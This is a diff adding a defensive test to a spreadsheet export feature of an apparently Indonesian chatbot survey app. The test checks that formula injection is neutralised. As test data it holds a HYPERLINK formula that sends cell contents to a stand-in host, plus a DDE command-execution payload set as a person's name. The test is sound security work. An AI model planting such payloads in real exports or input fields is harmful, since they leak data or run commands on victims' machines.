@@ -110,3 +110,25 @@ async def test_people_who_left_show_as_keluar_and_keep_their_answers(db, people,
     _, data = await as_viewer(db, flow_content, people["koord"], lambda s, c, v: export_xlsx(s, c, v, clock))
     rows = list(load_workbook(io.BytesIO(data))["PI 1"].iter_rows(values_only=True))
     assert sorted((r[0], r[4]) for r in rows[1:]) == [("Cahyo", "aktif"), ("Citra", "keluar")]
+
+
+async def test_export_keeps_answers_and_names_as_text_never_formulas(db, people, chat_for, flow_content, clock):
+    leak = '=HYPERLINK("http://contoh.invalid/?leak="&A2,"Klik")'
+    async with db.session() as s:
+        (await s.get(Person, people["cgp"].id)).name = "=cmd|' /C calc'!A0"
+    chat = chat_for(people["cgp"])
+    await start_pi1(chat)
+    await chat.send(leak)
+    await chat.press("Senang")
+    await chat.press("Cukup")
+    await chat.press("Visi")
+    await chat.press("Selesai")
+    await chat.send("32")
+    _, data = await as_viewer(db, flow_content, people["pp"], lambda s, c, v: export_xlsx(s, c, v, clock))
+    sheet = load_workbook(io.BytesIO(data))["PI 1"]
+    cells = {cell.value: cell for cell in sheet[2]}
+    name, answer, number = sheet["A2"], cells[leak], cells[32]
+    assert (name.value, name.data_type) == ("=cmd|' /C calc'!A0", "s")
+    assert (answer.value, answer.data_type, answer.quotePrefix) == (leak, "s", True)
+    assert (number.value, number.data_type) == (32, "n")  # numbers stay numbers
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
